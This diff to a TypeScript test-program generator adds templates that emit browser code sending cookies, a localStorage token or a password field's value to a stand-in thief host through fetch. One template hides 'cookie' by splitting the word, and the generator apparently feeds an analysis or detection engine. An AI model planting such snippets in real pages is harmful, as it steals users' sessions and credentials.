@@ -3,6 +3,7 @@ import { holesFrom } from "./holes.ts";
 import { TO_THIEF } from "./placements/placement.ts";
 import { finishProgram, startProgram } from "./program.ts";
 import type { Thief } from "./search.ts";
+import { type Secret, stealing } from "./secrets.ts";
 import type { Template } from "./template.ts";
 
 /**
@@ -36,6 +37,21 @@ export const cargos: readonly Cargo[] = [
 		use: (value) => `fetch("${TO_THIEF}" + document[${value}]);`,
 	},
 	{
+		name: "carried/half of a name",
+		expressions: ['"kie"', '"rner"'],
+		use: (value) => `fetch("${TO_THIEF}" + document["coo" + (${value})]);`,
+	},
+	{
+		name: "carried/storage",
+		expressions: ["localStorage", '({ getItem: () => "none" })'],
+		use: (value) => `fetch("${TO_THIEF}" + (${value}).getItem("token"));`,
+	},
+	{
+		name: "carried/field",
+		expressions: ['document.querySelector("[type=password]")', '({ value: "none" })'],
+		use: (value) => `fetch("${TO_THIEF}" + (${value}).value);`,
+	},
+	{
 		name: "carried/source",
 		expressions: ["document", '({ cookie: "none" })'],
 		use: (value) => `fetch("${TO_THIEF}" + (${value}).cookie);`,
@@ -51,6 +67,8 @@ export const cargos: readonly Cargo[] = [
 export interface CarrierOrder {
 	readonly template: Template;
 	readonly cargo: Cargo;
+	/** What is stolen by a cargo that does not read it itself. */
+	readonly secret: Secret;
 	readonly seed: number;
 	readonly isPlain: boolean;
 	/** Whether the template uses its value in a later task. */
@@ -66,9 +84,9 @@ export interface CarrierOrder {
 export async function makeCarriers(engine: RealEngine, orders: readonly CarrierOrder[]): Promise<Thief[]> {
 	const made = new Map<string, Thief>();
 	for (const order of orders) {
-		const { template, cargo, seed, isPlain, isLate } = order;
+		const { template, cargo, secret, seed, isPlain, isLate } = order;
 		const started = startProgram(template, holesFrom(seed, 0, cargo.expressions), isPlain);
-		const code = finishProgram(started, cargo.use(started.value));
+		const code = finishProgram(started, stealing(cargo.use(started.value), secret));
 		if (made.has(code) || !code.includes(cargo.expressions[0])) continue;
 		const again = (other: number) => makeCarriers(engine, [{ ...order, seed: other, isPlain: true }]);
 		made.set(code, {
